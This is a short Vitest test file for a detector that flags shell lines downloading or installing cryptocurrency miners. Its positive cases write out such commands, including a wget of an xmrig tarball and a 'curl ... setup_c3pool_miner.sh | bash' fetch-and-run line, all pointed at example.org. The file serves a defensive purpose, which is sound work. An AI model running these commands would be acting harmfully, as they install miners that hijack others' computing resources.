import { expect, it } from 'vitest'
import { minerDownload } from './miner-download.js'
import { codesOfLine } from './tell.fixture.js'

it.each([
  ['wget https://example.org/releases/xmrig-6.21.0-linux-static-x64.tar.gz', ['download.miner']],
  ['git clone https://example.org/xmrig/xmrig.git', ['download.miner']],
  ['curl -sL https://example.org/setup_c3pool_miner.sh | bash', ['download.miner']],
  ['apt-get install -y cgminer', ['download.miner']],
])('is told by %s', (line, codes) => {
  expect(codesOfLine(minerDownload, line)).toEqual(codes)
})

it.each([
  ['wget https://example.org/prometheus-xmr-exporter.tgz'],
  ['git log -- xmrig'],
  ['apt-get install -y nginx'],
  ['rm xmrig.tar.gz'],
])('is not told by %s', (line) => {
  expect(codesOfLine(minerDownload, line)).toEqual([])
})
